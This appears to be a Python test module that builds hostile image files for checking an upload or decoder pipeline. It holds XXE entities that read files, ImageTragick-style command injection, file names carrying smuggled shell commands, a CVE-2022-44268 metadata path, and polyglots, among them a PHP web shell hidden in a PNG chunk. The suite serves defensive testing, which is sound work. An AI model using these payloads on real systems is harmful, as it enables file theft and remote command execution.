"""Scripts in image files, and files that are valid in two formats."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.hostile.image_samples import HostileImage, png_with_chunk, valid_images
from tests.media.make_images import encode, photograph


def scripts(canary_file: str, canary_url: str) -> Iterator[HostileImage]:
    """Files that make an unsafe decoder open the canary file or call the canary server."""
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{canary_file}"><!ENTITY y SYSTEM "{canary_url}/svg">]>'
    svg = f'<?xml version="1.0"?>{entity}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    svg += f'<text>&x;&y;</text><image xlink:href="{canary_url}/image" width="9" height="9"/>'
    svg += f'<image xlink:href="file://{canary_file}" width="9" height="9"/><script>1</script></svg>'
    mvg = "push graphic-context\nviewbox 0 0 640 480\n"
    mvg += f"image over 0,0 0,0 'url({canary_url}/mvg\"|touch {canary_file}\")'\n"
    mvg += f"image over 0,0 0,0 'text:{canary_file}'\npop graphic-context\n"
    msl = f'<?xml version="1.0"?><image><read filename="{canary_file}"/><read filename="{canary_url}/msl"/></image>'
    postscript = f"%!PS\n({canary_file}) (r) file 100 string readline pop == showpage\n"
    pdf = "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(" + canary_url + "/pdf)>>>>endobj\n%%EOF"
    playlist = f"#EXTM3U\n#EXTINF:1,\nfile://{canary_file}\n#EXTINF:1,\n{canary_url}/hls\n#EXT-X-ENDLIST\n"
    for name, text in (
        ("xxe.svg", svg),
        ("tragick.mvg", mvg),
        ("tragick.msl", msl),
        ("shell.ps", postscript),
        ("open.pdf", pdf),
        ("list.m3u8", playlist),
    ):
        for suffix in ("", ".jpg", ".png", ".gif"):
            yield HostileImage("script", name + suffix, text.encode())
    for number, target in enumerate(
        (canary_file, f"{canary_url}/name", f"|cat {canary_file}", "msl:/x", "@" + canary_file)
    ):
        name = target.replace("/", "\u2215")[:100]
        yield HostileImage("script", f"{number}-{name}.jpg", valid_images()["plain.jpg"], may_pass=True)
    for name in ("plain.png", "plain.jpg", "plain.gif"):
        yield HostileImage("script", f"text-profile-{name}", _with_path_in_metadata(name, canary_file), may_pass=True)
    xmp = f'<?xml version="1.0"?>{entity}<x:xmpmeta xmlns:x="adobe:ns:meta/">&x;&y;</x:xmpmeta>'
    yield HostileImage("script", "xmp-entities.jpg", encode(photograph(), "JPEG", xmp=xmp.encode()), may_pass=True)


def _with_path_in_metadata(name: str, canary_file: str) -> bytes:
    """CVE-2022-44268: a text chunk `profile` whose value is a path, and the equivalent in other formats."""
    if name.endswith("png"):
        return png_with_chunk(b"tEXt", b"profile\0" + canary_file.encode())
    if name.endswith("jpg"):
        body = b"profile\0" + canary_file.encode()
        return (
            valid_images()[name][:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + valid_images()[name][2:]
        )
    body = canary_file.encode()[:255]
    return valid_images()[name][:-1] + b"\x21\xfe" + bytes([len(body)]) + body + b"\0;"


def polyglots() -> Iterator[HostileImage]:
    """Files that are valid in two formats."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("payload.html", "<script>alert(1)</script>" * 100)
    script = b"*/=1;alert(document.domain)//"
    for name, content in valid_images().items():
        yield HostileImage("polyglot", f"zip-{name}", content + archive.getvalue(), may_pass=True)
        yield HostileImage("polyglot", f"pdf-after-{name}", content + b"%PDF-1.4\n%%EOF", may_pass=True)
        yield HostileImage("polyglot", f"pdf-before-{name}", b"%PDF-1.4\n" + content)
        yield HostileImage("polyglot", f"postscript-before-{name}", b"%!PS-Adobe-3.0\n" + content)
    gif = valid_images()["plain.gif"]
    yield HostileImage("polyglot", "script.gif", b"GIF89a/*" + gif[8:] + script, may_pass=True)
    yield HostileImage("polyglot", "script-plain.gif", b"GIF89a=1;alert(1)//" + gif[19:], may_pass=True)
    yield HostileImage(
        "polyglot", "html.jpg", valid_images()["plain.jpg"] + b"<html><script>alert(1)</script></html>", may_pass=True
    )
    yield HostileImage(
        "polyglot", "php.png", png_with_chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>"), may_pass=True
    )
    names = ("plain.jpg", "plain.png", "plain.gif", "plain.webp", "plain.bmp", "plain.tiff", "plain.avif", "plain.heic")
    for one in names:
        for other in names:
            if one != other:
                half = len(valid_images()[one]) // 2
                yield HostileImage(
                    "polyglot", f"{one}-then-{other}", valid_images()[one][:half] + valid_images()[other], may_pass=True
                )
